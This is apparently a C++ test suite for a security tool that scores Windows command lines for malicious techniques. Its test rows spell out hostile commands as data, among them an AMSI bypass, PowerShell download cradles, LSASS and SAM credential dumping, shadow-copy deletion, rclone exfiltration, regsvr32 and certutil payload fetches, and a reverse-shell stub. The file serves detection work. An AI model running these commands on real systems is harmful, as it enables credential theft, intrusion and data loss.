// Analyzer: one row per SPEC §6 category, the sample case, benign admin lines, the JSON
// contract, and custom patterns/allowlist stored through patternstore::.
#include "cmdline/commandlineanalyzer.h"
#include "cmdline/keywordmatcher.h"
#include "cmdlinetestdata.h"
#include "core/jsonutil.h"
#include "store/patternstore.h"
#include "testutils.h"

#include <QFile>
#include <QTest>

#include <nlohmann/json.hpp>

using namespace causa;

namespace {

QString s(const char *c)
{
    return QString::fromUtf8(c);
}

const Finding *findCategory(const AnalysisResult &r, const QString &category)
{
    for (const Finding &f : r.findings)
        if (f.category == category)
            return &f;
    return nullptr;
}

QString describe(const AnalysisResult &r)
{
    QStringList parts;
    for (const Finding &f : r.findings)
        parts << QStringLiteral("%1/%2(+%3)").arg(f.category, f.rule).arg(f.contribution);
    return QStringLiteral("score %1 %2: %3")
        .arg(r.score)
        .arg(r.verdict, parts.join(QLatin1String(", ")));
}

const CommandLineAnalyzer &analyzer()
{
    static const CommandLineAnalyzer a;
    return a;
}

QString sampleCommandLine(const QString &alertId)
{
    QFile f(test::sourceDir() + QStringLiteral("/resources/samples/fin-ws-042-incident.json"));
    if (!f.open(QIODevice::ReadOnly))
        return {};
    const auto doc = nlohmann::json::parse(f.readAll().toStdString(), nullptr, false);
    QString found;
    std::function<void(const nlohmann::json &)> walk = [&](const nlohmann::json &j) {
        if (j.is_object()) {
            if (js::str(j, "alert_id") == alertId &&
                j.contains("action_process_image_command_line"))
                found = js::str(j, "action_process_image_command_line");
            for (const auto &v : j)
                walk(v);
        } else if (j.is_array()) {
            for (const auto &v : j)
                walk(v);
        }
    };
    walk(doc);
    return found;
}

} // namespace

class TestCmdlineAnalyzer : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void categories_data();
    void categories();
    void sampleCaseAmsiCradle();
    void sampleCaseComsvcsDump();
    void benignAdminLines_data();
    void benignAdminLines();
    void jsonContract();
    void xsoarParity_data();
    void xsoarParity();
    void indicatorsAsWritten_data();
    void indicatorsAsWritten();
    void contributionsAddUp();
    void netExeVersusDotNetNames_data();
    void netExeVersusDotNetNames();
    void switchKeywords_data();
    void switchKeywords();
    void switchRules_data();
    void switchRules();
    void streamColonKeyword_data();
    void streamColonKeyword();
    void customPatternsAndAllowlist();
    void newRulesCatch_data();
    void newRulesCatch();
    void contextPasses_data();
    void contextPasses();
};

void TestCmdlineAnalyzer::initTestCase()
{
    QVERIFY2(analyzer().loadError().isEmpty(), qPrintable(analyzer().loadError()));
    QVERIFY(analyzer().knowledge()->lolbinCount() >= 150);
    QVERIFY(!analyzer().knowledge()->techniqueName(QStringLiteral("T1218.011")).isEmpty());
}

void TestCmdlineAnalyzer::categories_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("category");
    QTest::addColumn<QString>("mitrePrefix");
    QTest::addColumn<QString>("minVerdict");

    QTest::newRow("base64") << s("powershell -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8A")
                            << "base64"
                            << "T1027"
                            << "benign";
    QTest::newRow("double_encoding")
        << s("powershell -enc cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABWAHcAQgB5AEEARwBrAEEAZABBAEIAbABBAEMAMABBAFQAdwBCADEAQQBIAFEAQQBjAEEAQgAxAEEASABRAEEASQBBAEIAdQBBAEcAVQBBAGMAdwBCADAAQQBHAFUAQQBaAEEAQQA9AA==")
        << "double_encoding"
        << "T1027"
        << "suspicious";
    QTest::newRow("compressed_payload")
        << s("IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('H4sIAAAAAAACAwsvyixJ1fUvLSkoLVFIr8osKEhNUShIrMzJT0wBAGw1Y1IcAAAA'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()")
        << "compressed_payload"
        << "T1027"
        << "malicious";
    QTest::newRow("reversed_string")
        << s("powershell -c \"$u=('gnirtSdaolnwoD'[-1..-14] -join '')\"") << "reversed_string"
        << "T1027"
        << "suspicious";
    QTest::newRow("string_obfuscation")
        << s("powershell -c \"I`E`X (N`ew-Ob`ject Net.WebClient)\"") << "string_obfuscation"
        << "T1027"
        << "suspicious";
    QTest::newRow("obfuscated_ip")
        << s("powershell iwr http://0xB9DC652A:8080/a.ps1 -OutFile a.ps1") << "obfuscated_ip"
        << "T1027"
        << "suspicious";
    QTest::newRow("amsi_bypass")
        << s("powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"")
        << "amsi_bypass"
        << "T1562.001"
        << "malicious";
    QTest::newRow("download_cradle")
        << s("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"")
        << "download_cradle"
        << "T1059.001"
        << "malicious";
    QTest::newRow("suspicious_parameters")
        << s("powershell.exe -w hidden -nop -ep bypass -c Get-Date") << "suspicious_parameters"
        << "T1"
        << "benign";
    QTest::newRow("offensive_tool")
        << s("powershell -c \"Invoke-Mimikatz -DumpCreds\"") << "offensive_tool"
        << "T1588"
        << "malicious";
    QTest::newRow("credential_access")
        << s("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full")
        << "credential_access"
        << "T1003.001"
        << "malicious";
    QTest::newRow("credential_access reg save")
        << s("reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv") << "credential_access"
        << "T1003.002"
        << "malicious";
    QTest::newRow("reconnaissance") << s("nltest /domain_trusts /all_trusts") << "reconnaissance"
                                    << "T1482"
                                    << "suspicious";
    QTest::newRow("lateral_movement")
        << s("wmic /node:10.1.2.3 process call create \"cmd /c whoami > C:\\out.txt\"")
        << "lateral_movement"
        << "T1047"
        << "malicious";
    QTest::newRow("persistence")
        << s("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\Users\\Public\\u.exe")
        << "persistence"
        << "T1547.001"
        << "suspicious";
    QTest::newRow("defense_evasion")
        << s("vssadmin.exe delete shadows /all /quiet") << "defense_evasion"
        << "T1490"
        << "malicious";
    QTest::newRow("exfiltration")
        << s("rclone.exe copy C:\\Finance remote:exfil-bucket --transfers 8") << "exfiltration"
        << "T1567"
        << "malicious";
    QTest::newRow("lolbin_proxy_execution regsvr32 scrobj")
        << s("regsvr32 /s /n /u /i:http://203.0.113.7/file.sct scrobj.dll")
        << "lolbin_proxy_execution"
        << "T1218.010"
        << "malicious";
    QTest::newRow("lolbin_proxy_execution mshta javascript")
        << s("mshta.exe javascript:a=GetObject(\"script:http://203.0.113.7/x.sct\").Exec();close();")
        << "lolbin_proxy_execution"
        << "T1218.005"
        << "malicious";
    QTest::newRow("lolbin_proxy_execution certutil urlcache")
        << s("certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe")
        << "lolbin_proxy_execution"
        << "T1105"
        << "malicious";
    // A protocol handler is named with ':' after it, which the program-name rule refuses for
    // switches (/node:); the catalogue entry matches the word instead.
    QTest::newRow("lolbin_proxy_execution ms-appinstaller protocol")
        << s("start ms-appinstaller://?source=http://203.0.113.50/payload.exe")
        << "lolbin_proxy_execution"
        << "T1105"
        << "suspicious";
    QTest::newRow("dynamic_code_execution")
        << s("powershell -c \"[scriptblock]::Create($env:X).Invoke()\"") << "dynamic_code_execution"
        << "T1059.001"
        << "suspicious";
    QTest::newRow("process_injection")
        << s("powershell -c \"$m=[K32]::VirtualAlloc(0,4096,0x3000,0x40);[K32]::CreateThread(0,0,$m,0,0,0)\"")
        << "process_injection"
        << "T1055"
        << "malicious";
    QTest::newRow("temp_path") << s("cmd /c copy a.exe C:\\Windows\\Temp\\a.exe") << "temp_path"
                               << "T1074"
                               << "benign";
    QTest::newRow("mixed_case_powershell")
        << s("poWerSheLl.eXe -c Get-Date") << "mixed_case_powershell"
        << "T1027"
        << "benign";
    QTest::newRow("indicators") << s("ping -n 1 185.220.101.42") << "indicators"
                                << "T1071"
                                << "benign";
}

void TestCmdlineAnalyzer::categories()
{
    QFETCH(QString, line);
    QFETCH(QString, category);
    QFETCH(QString, mitrePrefix);
    QFETCH(QString, minVerdict);
    const AnalysisResult r = analyzer().analyze(line);
    const Finding *f = findCategory(r, category);
    QVERIFY2(f, qPrintable(describe(r)));
    QVERIFY2(f->mitre.startsWith(mitrePrefix), qPrintable(f->mitre));
    QVERIFY(!f->tactic.isEmpty());
    QVERIFY(f->weight > 0);
    const QStringList order = {QStringLiteral("benign"), QStringLiteral("suspicious"),
                               QStringLiteral("malicious")};
    QVERIFY2(order.indexOf(r.verdict) >= order.indexOf(minVerdict), qPrintable(describe(r)));
}

void TestCmdlineAnalyzer::sampleCaseAmsiCradle()
{
    const QString line = sampleCommandLine(QStringLiteral("31337"));
    QVERIFY(!line.isEmpty());
    const AnalysisResult r = analyzer().analyze(line);
    QCOMPARE(r.verdict, QStringLiteral("malicious"));
    QVERIFY2(findCategory(r, QStringLiteral("amsi_bypass")), qPrintable(describe(r)));
    QVERIFY2(findCategory(r, QStringLiteral("download_cradle")), qPrintable(describe(r)));
    QVERIFY2(findCategory(r, QStringLiteral("obfuscated_ip")), qPrintable(describe(r)));
    QCOMPARE(r.layers.first().transform, QStringLiteral("base64-utf16le"));
    bool ip = false;
    for (const ExtractedIndicator &i : r.indicators)
        if (i.type == QLatin1String("ipv4") && i.value == QLatin1String("185.220.101.42") &&
            i.asWritten == QLatin1String("0xB9DC652A") && !i.internal)
            ip = true;
    QVERIFY(ip);
    QVERIFY(r.flags.amsi && r.flags.base64 && r.flags.networkActivity && r.flags.foundIndicators);
    QVERIFY(r.decoded.contains(QLatin1String("185.220.101.42")));
    // The parity scheme sees the same categories but scores lower: the reason Causa has its own.
    QVERIFY(r.xsoarScore <= r.score);
}

void TestCmdlineAnalyzer::sampleCaseComsvcsDump()
{
    const QString line = sampleCommandLine(QStringLiteral("31338"));
    QVERIFY(line.contains(QLatin1String("comsvcs")));
    const AnalysisResult r = analyzer().analyze(line);
    QCOMPARE(r.verdict, QStringLiteral("malicious"));
    const Finding *f = findCategory(r, QStringLiteral("credential_access"));
    QVERIFY2(f, qPrintable(describe(r)));
    QCOMPARE(f->mitre, QStringLiteral("T1003.001"));
    QVERIFY(r.flags.maliciousTools);
    QVERIFY(r.flags.suspiciousLolbinExecution);
    QVERIFY(r.lolbins.contains(QStringLiteral("Rundll32.exe")));
    QVERIFY(r.lolbins.contains(QStringLiteral("Comsvcs.dll")));
}

void TestCmdlineAnalyzer::benignAdminLines_data()
{
    QTest::addColumn<QString>("line");
    const char *lines[] = {
        "msiexec /i \"C:\\Install\\AcroRead.msi\" /qn /norestart",
        "msiexec /x {23170F69-40C1-2702-1900-000001000000} /qn",
        "msiexec /i \\\\fileserver\\deploy\\7zip.msi /qn ALLUSERS=1",
        "gpupdate /force",
        "gpupdate /target:computer /force",
        "sc query wuauserv",
        "sc queryex type= service state= all",
        "sc config wuauserv start= auto",
        "certutil -store My",
        "certutil -verify -urlfetch C:\\certs\\server.cer",
        "certutil -hashfile C:\\Windows\\System32\\notepad.exe SHA256",
        "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -Scan -ScanType 1",
        "MpCmdRun.exe -SignatureUpdate",
        "schtasks /query /fo LIST /v",
        "schtasks /run /tn \"\\Microsoft\\Windows\\Defrag\\ScheduledDefrag\"",
        "wmic logicaldisk get size,freespace,caption",
        "wmic os get caption,version",
        "ipconfig /flushdns",
        "netsh interface ip show config",
        "net use Z: \\\\fileserver\\shared /persistent:yes",
        "robocopy C:\\Data \\\\backup01\\data /MIR /R:2 /W:5 /LOG:C:\\Logs\\robocopy.log",
        "xcopy C:\\Reports \\\\fileserver\\reports /E /I /Y",
        "tasklist /svc",
        "systeminfo",
        "whoami",
        "hostname",
        "ping -n 4 10.0.0.1",
        "nslookup intranet.corp.local",
        "tracert 8.8.8.8",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Contoso\\scripts\\inventory.ps1\"",
        "powershell -Command \"Get-Service | Where-Object {$_.Status -eq 'Running'}\"",
        "powershell.exe -ExecutionPolicy RemoteSigned -Command \"Get-WindowsUpdateLog\"",
        "powershell Get-EventLog -LogName System -Newest 50",
        "dism /online /cleanup-image /restorehealth",
        "sfc /scannow",
        "chkdsk C: /scan",
        "bcdedit /enum",
        "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\" /s",
        "wevtutil qe System /c:10 /f:text",
        "wusa.exe C:\\Updates\\windows10.0-kb5005565-x64.msu /quiet /norestart",
        "net localgroup administrators",
        "net user jdoe /domain",
        "klist purge",
        "vssadmin list shadows",
        "fsutil volume diskfree C:",
        "icacls \"C:\\Shares\\Finance\" /grant \"CORP\\Finance\":(OI)(CI)M",
        "shutdown /r /t 0",
        "cmd /c \"echo %DATE% %TIME% >> C:\\Logs\\heartbeat.log\"",
        "rundll32.exe printui.dll,PrintUIEntry /in /n \\\\printsrv01\\HP-Floor3",
        "rundll32.exe user32.dll,LockWorkStation",
        "control.exe /name Microsoft.WindowsUpdate",
        "mmc.exe C:\\Windows\\system32\\compmgmt.msc",
        "explorer.exe C:\\Users\\jdoe\\Documents",
        "certreq -submit -config \"CA01\\Corp-CA\" request.req cert.cer",
        "bitsadmin /list /allusers",
        "netstat -ano",
        "quser",
        "nltest /sc_query:CORP",
        "powershell -Command \"Get-ADUser -Identity jdoe -Properties *\"",
        "winget upgrade --all",
        "\"C:\\Windows\\system32\\cmd.exe\" /c ver",
        "curl.exe -I https://www.microsoft.com",
        "git clone https://github.com/contoso/tools.git",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
        "osascript -e 'display notification \"Backup done\"'",
    };
    for (const char *l : lines)
        QTest::newRow(l) << s(l);
}

void TestCmdlineAnalyzer::benignAdminLines()
{
    QFETCH(QString, line);
    const AnalysisResult r = analyzer().analyze(line);
    QVERIFY2(r.verdict == QLatin1String("benign"), qPrintable(describe(r)));
    QVERIFY(r.flags.amsi == false && r.flags.maliciousTools == false && r.flags.base64 == false);
}

void TestCmdlineAnalyzer::jsonContract()
{
    const AnalysisResult r = analyzer().analyze(sampleCommandLine(QStringLiteral("31337")));
    const nlohmann::json j = toJson(r);
    std::vector<std::string> keys;
    for (auto it = j.begin(); it != j.end(); ++it)
        keys.push_back(it.key());
    std::sort(keys.begin(), keys.end());
    const std::vector<std::string> expected = {
        "command_line", "decoded", "findings", "flags",   "indicators", "layers",
        "lolbins",      "risk",    "score",    "verdict", "xsoar_risk", "xsoar_score"};
    QCOMPARE(keys, expected);
    std::vector<std::string> flagKeys;
    for (auto it = j["flags"].begin(); it != j["flags"].end(); ++it)
        flagKeys.push_back(it.key());
    std::sort(flagKeys.begin(), flagKeys.end());
    QCOMPARE(flagKeys, (std::vector<std::string>{"AMSI", "SuspiciousLolbinExecution", "base64",
                                                 "foundIndicators", "maliciousTools",
                                                 "networkActivity", "suspiciousParameters"}));
    const auto &layer = j["layers"][0];
    QCOMPARE(layer["transform"].get<std::string>(), std::string("base64-utf16le"));
    QVERIFY(layer["span"].is_array() && layer["span"].size() == 2);
    QVERIFY(layer["text"].is_string());
    for (const auto &f : j["findings"]) {
        for (const char *k : {"category", "match", "layer", "span", "mitre", "tactic", "weight"})
            QVERIFY2(f.contains(k), k);
    }
    for (const auto &i : j["indicators"])
        for (const char *k : {"type", "value", "as_written"})
            QVERIFY2(i.contains(k), k);
    const std::string verdict = j["verdict"].get<std::string>();
    QVERIFY(verdict == "benign" || verdict == "suspicious" || verdict == "malicious");
    const std::string risk = j["risk"].get<std::string>();
    QVERIFY(risk == "Low" || risk == "Medium" || risk == "High" || risk == "Critical");
}

void TestCmdlineAnalyzer::xsoarParity_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<int>("xsoarScore");
    // amsi (35) alone: 35/120 -> 29
    QTest::newRow("one 35-point category")
        << s("powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\"")
        << 29;
    // nothing fires
    QTest::newRow("nothing") << s("sc query wuauserv") << 0;
    // osascript -e is not an encoded command (an XSOAR defect, fixed)
    QTest::newRow("osascript -e") << s("osascript -e 'display dialog \"hi\"'") << 0;
}

void TestCmdlineAnalyzer::xsoarParity()
{
    QFETCH(QString, line);
    QFETCH(int, xsoarScore);
    const AnalysisResult r = analyzer().analyze(line);
    QCOMPARE(r.xsoarScore, xsoarScore);
    // One unmistakable technique alone never reaches High in the parity scheme; Causa's own
    // score calls it malicious.
    if (xsoarScore > 0) {
        QCOMPARE(r.xsoarRisk, QStringLiteral("Medium"));
        QCOMPARE(r.verdict, QStringLiteral("malicious"));
    }
}

void TestCmdlineAnalyzer::indicatorsAsWritten_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("type");
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("asWritten");
    QTest::addColumn<bool>("internal");
    QTest::newRow("hex ip in url") << s("iwr http://0xB9DC652A/x") << "ipv4"
                                   << "185.220.101.42"
                                   << "0xB9DC652A" << false;
    QTest::newRow("decimal ip in url") << s("iwr http://3232235786/x") << "ipv4"
                                       << "192.168.1.10"
                                       << "3232235786" << true;
    QTest::newRow("defanged url") << s("see hxxp://evil[.]example[.]ru/a.exe") << "url"
                                  << "http://evil.example.ru/a.exe"
                                  << "hxxp://evil[.]example[.]ru/a.exe" << false;
    QTest::newRow("defanged domain") << s("nslookup evil[.]example[.]ru") << "domain"
                                     << "evil.example.ru"
                                     << "evil[.]example[.]ru" << false;
    QTest::newRow("plain ipv4") << s("ping 185.220.101.42") << "ipv4"
                                << "185.220.101.42"
                                << "185.220.101.42" << false;
    QTest::newRow("private ipv4") << s("ping 10.1.2.3") << "ipv4"
                                  << "10.1.2.3"
                                  << "10.1.2.3" << true;
    QTest::newRow("sha256")
        << s("certutil -hashfile x SHA256 E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855")
        << "sha256"
        << "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        << "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855" << false;
    QTest::newRow("unc path") << s("copy x.exe \\\\10.0.0.5\\c$\\x.exe") << "path"
                              << "\\\\10.0.0.5\\c$\\x.exe"
                              << "\\\\10.0.0.5\\c$\\x.exe" << true;
    QTest::newRow("user switch") << s("runas /user:CORP\\admin cmd") << "user"
                                 << "corp\\admin"
                                 << "CORP\\admin" << false;
    QTest::newRow("net user") << s("net user backdoor P@ss /add") << "user"
                              << "backdoor"
                              << "backdoor" << false;
}

void TestCmdlineAnalyzer::indicatorsAsWritten()
{
    QFETCH(QString, line);
    QFETCH(QString, type);
    QFETCH(QString, value);
    QFETCH(QString, asWritten);
    QFETCH(bool, internal);
    const AnalysisResult r = analyzer().analyze(line);
    QString all;
    for (const ExtractedIndicator &i : r.indicators) {
        all += i.type + QLatin1Char('=') + i.value + QLatin1Char('(') + i.asWritten +
               QStringLiteral(") ");
        if (i.type == type && i.value == value) {
            QCOMPARE(i.asWritten, asWritten);
            QCOMPARE(i.internal, internal);
            return;
        }
    }
    QFAIL(qPrintable(all));
}

void TestCmdlineAnalyzer::netExeVersusDotNetNames_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<bool>("netExe");
    // .NET type names contain "Net" as a word; they are not Net.exe.
    QTest::newRow("Net.WebClient download cradle")
        << s("powershell -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/a.exe','a.exe')\"")
        << false;
    QTest::newRow("System.Net.Sockets reverse shell")
        << s("powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',443)\"")
        << false;
    QTest::newRow("[Net.ServicePointManager] TLS setting")
        << s("powershell -c \"[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12; iwr https://example.org/x\"")
        << false;
    QTest::newRow("System.Net.WebClient in decoded layer")
        << s("powershell -enc ") +
               test::utf16Base64(s(
                   "IEX (New-Object System.Net.WebClient).DownloadString('http://203.0.113.7/a')"))
        << false;
    // The real binary, however it is named on the line.
    QTest::newRow("net user add") << s("net user backdoor P@ss /add") << true;
    QTest::newRow("net.exe use UNC") << s("net.exe use \\\\10.0.0.5\\c$ /user:CORP\\admin") << true;
    QTest::newRow("full path NET.EXE user /domain")
        << s("C:\\Windows\\System32\\NET.EXE user /domain") << true;
    QTest::newRow("cmd /c net group")
        << s("cmd.exe /c \"net group \"Domain Admins\" /domain\"") << true;
}

void TestCmdlineAnalyzer::netExeVersusDotNetNames()
{
    QFETCH(QString, line);
    QFETCH(bool, netExe);
    const AnalysisResult r = analyzer().analyze(line);
    QCOMPARE(r.lolbins.contains(QStringLiteral("Net.exe")), netExe);
    bool netRule = false;
    for (const Finding &f : r.findings)
        netRule = netRule || f.rule.startsWith(QLatin1String("lolbin:net.exe:"));
    QVERIFY2(netRule == netExe, qPrintable(describe(r)));
}

void TestCmdlineAnalyzer::switchKeywords_data()
{
    QTest::addColumn<QString>("keyword");
    QTest::addColumn<QString>("text");
    QTest::addColumn<int>("at");
    QTest::newRow("-p alone") << s("switch:p") << s("7z a -p out.7z") << 5;
    QTest::newRow("/p alone") << s("switch:p") << s("tool /p x") << 5;
    QTest::newRow("-p at the start") << s("switch:p") << s("-p") << 0;
    QTest::newRow("-p with :value") << s("switch:p") << s("tool -p:secret") << 5;
    QTest::newRow("-p with =value") << s("switch:p") << s("tool -p=secret") << 5;
    QTest::newRow("quoted \"-p\"") << s("switch:p") << s("tool \"-p\" x") << 6;
    QTest::newRow("en-dash \u2013p") << s("switch:p") << QStringLiteral(u"tool \u2013p x") << 5;
    QTest::newRow("-P capital") << s("switch:p") << s("tool -P x") << 5;
    QTest::newRow("p starting a path word")
        << s("switch:p") << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a x") << -1;
    QTest::newRow("p starting a word")
        << s("switch:p") << s("node webpack --mode production") << -1;
    QTest::newRow("-p inside an argument") << s("switch:p") << s("tool a-p b") << -1;
    QTest::newRow("--p is another switch") << s("switch:p") << s("tool --p x") << -1;
    QTest::newRow("-pX glued, not allowed") << s("switch:p") << s("7z a -pSecret x") << -1;
    QTest::newRow("-pX glued, allowed") << s("switch:p*") << s("7z a -pSecret x") << 5;
    QTest::newRow("-hp glued, allowed") << s("switch:hp*") << s("rar a -hpSecret x") << 6;
    QTest::newRow("-p is not -hp") << s("switch:hp*") << s("rar a -pSecret x") << -1;
    QTest::newRow("/i: before a URL")
        << s("switch:i") << s("regsvr32 /s /i:http://x/a.sct scrobj.dll") << 12;
    QTest::newRow("s starting System32")
        << s("switch:s") << s("C:\\Windows\\System32\\regsvr32.exe x.dll") << -1;
    QTest::newRow("-s later on the line")
        << s("switch:s") << s("C:\\Windows\\System32\\regsvr32.exe -s x.dll") << 33;
}

void TestCmdlineAnalyzer::switchKeywords()
{
    QFETCH(QString, keyword);
    QFETCH(QString, text);
    QFETCH(int, at);
    KeywordMatcher m;
    const int id = m.add(keyword);
    m.add(QStringLiteral("|p")); // a word keyword sharing the automaton must not disturb the switch
    m.build();
    std::vector<qsizetype> pos;
    m.scan(text, &pos);
    QCOMPARE(int(pos[size_t(id)]), at);
    QVERIFY(m.keyword(id).startsWith(QLatin1Char('-')));
}

// Catalogue entries with single-letter switches: the abuse fires on the switch, and the same
// letter at the start of a word ("Program Files", "System32", "deploy@", ".local") is no switch.
void TestCmdlineAnalyzer::switchRules_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("rule");
    QTest::addColumn<bool>("fires");
    QTest::newRow("7z a -p: password archive")
        << s("7z a -pInfected123 C:\\Users\\Public\\out.7z C:\\Users\\jdoe\\Documents")
        << s("lolbin:7z.exe:1") << true;
    QTest::newRow("7z -p after the files")
        << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a out.7z C:\\data -pS3cret")
        << s("archive-with-password") << true;
    QTest::newRow("rar -hp") << s("rar a -hpSecret loot.rar C:\\data")
                             << s("archive-with-encrypted-names") << true;
    QTest::newRow("7z backup without password")
        << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a C:\\Backup\\docs-2024-01.7z C:\\Users\\jdoe\\Documents\\*")
        << s("lolbin:7z.exe:1") << false;
    QTest::newRow("7z extraction with password")
        << s("7z x archive.7z -pSecret -oC:\\out") << s("archive-with-password") << false;
    QTest::newRow("ssh -R remote forward")
        << s("ssh -R 8080:localhost:80 user@203.0.113.7") << s("lolbin:ssh.exe:1") << true;
    QTest::newRow("ssh -D1080 glued")
        << s("ssh -D1080 -N user@203.0.113.7") << s("lolbin:ssh.exe:1") << true;
    QTest::newRow("ssh with a key to deploy@")
        << s("ssh -i C:\\Users\\jdoe\\.ssh\\id_ed25519 deploy@build01.corp.local")
        << s("lolbin:ssh.exe:1") << false;
    QTest::newRow("ssh folder script")
        << s("\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\ProgramData\\ssh\\runtests.bat\"")
        << s("lolbin:ssh.exe:1") << false;
    QTest::newRow("regsvr32 squiblydoo")
        << s("regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll")
        << s("lolbin:regsvr32.exe:1") << true;
    QTest::newRow("tar -xf from UNC")
        << s("tar -xf \\\\203.0.113.7\\share\\a.tar -C C:\\Users\\Public") << s("lolbin:tar.exe:2")
        << true;
    QTest::newRow("node -e") << s("node -e \"require('child_process').exec('calc')\"")
                             << s("lolbin:node.exe:1") << true;
    QTest::newRow("node webpack --mode production")
        << s("node C:\\src\\webapp\\node_modules\\.bin\\webpack --mode production")
        << s("lolbin:node.exe:1") << false;
    QTest::newRow("wsl -d distribution")
        << s("wsl.exe -d Ubuntu-22.04 -- make test") << s("lolbin:wsl.exe:1") << false;
    QTest::newRow("wsl -e") << s("wsl.exe -e /bin/sh -c id") << s("lolbin:wsl.exe:1") << true;
    // The alternate-data-stream abuses fire on a stream's colon, not on every drive letter.
    QTest::newRow("tar into a stream")
        << s("tar -cf C:\\Users\\Public\\a.txt:payload.tgz C:\\tools\\nc.exe")
        << s("lolbin:tar.exe:1") << true;
    QTest::newRow("tar archive:stream")
        << s("tar -xf compressedfile:stream.tgz") << s("lolbin:tar.exe:1") << true;
    QTest::newRow("tar backup to a drive")
        << s("tar -cf D:\\Backup\\docs.tar C:\\Users\\jdoe\\Documents") << s("lolbin:tar.exe:1")
        << false;
    QTest::newRow("makecab into a stream")
        << s("makecab C:\\Temp\\autoruns.exe C:\\Temp\\cab.txt:autoruns.cab")
        << s("lolbin:makecab.exe:1") << true;
    QTest::newRow("extrac32 copies an executable")
        << s("extrac32.exe /C C:\\Users\\Public\\a.exe C:\\Windows\\Temp\\b.exe")
        << s("lolbin:extrac32.exe:5") << true;
    QTest::newRow("extrac32 extracts a cabinet")
        << s("extrac32.exe /E C:\\Drivers\\pkg.cab") << s("lolbin:extrac32.exe:5") << false;
    QTest::newRow("makecab a driver package")
        << s("makecab /f C:\\build\\driver.ddf /d CabinetNameTemplate=drv.cab")
        << s("lolbin:makecab.exe:1") << false;
}

void TestCmdlineAnalyzer::streamColonKeyword_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<int>("at");
    QTest::newRow("file.txt:stream") << s("x C:\\ads\\file.txt:evil.exe") << 17;
    QTest::newRow("archive:stream") << s("tar -xf compressedfile:stream.tgz") << 22;
    QTest::newRow("folder:stream") << s("certutil -f c:\\temp:ttt") << 19;
    QTest::newRow("quoted path") << s("wmic process call create \"c:\\ads\\file.txt:program.exe\"")
                                 << 41;
    QTest::newRow("after a switch's drive letter")
        << s("print /D:C:\\ADS\\File.txt:file.exe x") << 24;
    QTest::newRow("drive letter") << s("tar -cf D:\\Backup\\docs.tar C:\\Users") << -1;
    QTest::newRow("drive with forward slash") << s("tool C:/data/x.txt") << -1;
    QTest::newRow("drive-relative") << s("tool c:file.txt") << -1;
    QTest::newRow("url") << s("tool https://example.org/a") << -1;
    QTest::newRow("script scheme") << s("mshta vbscript:Execute(\"x\")") << -1;
    QTest::newRow("switch value") << s("net use /user:alice \\\\srv\\c$") << -1;
    QTest::newRow("dash switch value") << s("tool -p:secret") << -1;
    QTest::newRow("port") << s("ssh -L 8080:localhost:80 host") << -1;
    QTest::newRow("host:port") << s("curl example.org:443") << -1;
    QTest::newRow("time") << s("schtasks /st 12:30") << -1;
    QTest::newRow("colon at the end") << s("label:") << -1;
    QTest::newRow("only colons") << QString(100000, QLatin1Char(':')) << -1;
}

void TestCmdlineAnalyzer::streamColonKeyword()
{
    QFETCH(QString, text);
    QFETCH(int, at);
    KeywordMatcher m;
    const int id = m.add(QStringLiteral("ads:"));
    m.add(QStringLiteral("c:")); // a keyword sharing the colon's path in the automaton
    m.build();
    std::vector<qsizetype> pos;
    m.scan(text, &pos);
    QCOMPARE(int(pos[size_t(id)]), at);
    QCOMPARE(m.keyword(id), QStringLiteral(":"));
}

void TestCmdlineAnalyzer::switchRules()
{
    QFETCH(QString, line);
    QFETCH(QString, rule);
    QFETCH(bool, fires);
    const AnalysisResult r = analyzer().analyze(line);
    bool fired = false;
    for (const Finding &f : r.findings)
        fired = fired || f.rule == rule;
    QVERIFY2(fired == fires, qPrintable(describe(r)));
}

void TestCmdlineAnalyzer::contributionsAddUp()
{
    const AnalysisResult r = analyzer().analyze(sampleCommandLine(QStringLiteral("31337")));
    int sum = 0;
    for (const Finding &f : r.findings) {
        QVERIFY(f.contribution >= 0);
        sum += f.contribution;
    }
